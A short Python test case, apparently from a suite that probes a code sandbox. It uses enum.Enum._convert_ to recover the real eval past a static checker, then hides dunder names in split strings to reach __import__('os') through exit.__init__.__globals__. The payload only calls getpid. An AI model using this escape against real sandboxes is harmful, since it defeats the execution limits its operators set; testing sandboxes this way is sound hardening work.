# technique: enum.Enum._convert_('Loot', 'builtins', filter) reads any module in sys.modules by name and turns the names the filter picks into members: Loot.eval.value is the real eval, which compiles run-time source that neither the static check nor the format rewriter ever sees
# configs: default, common
# _convert_ also writes the members back into the real builtins module (eval only here, which
# nothing after the task needs). With nothing allowed `import enum` is refused.
import enum
Loot = enum.Enum._convert_('Loot', 'builtins', lambda name: name == 'eval')
real_eval = Loot.eval.value
u = '_' * 2
source = 'exit.' + u + 'init' + u + '.' + u + 'globals' + u + "['" + u + 'builtins' + u + "']['" + u + 'import' + u + "']('os').getpid()"
return [{'json': {'escaped': [real_eval('6 * 7'), real_eval(source)]}}]
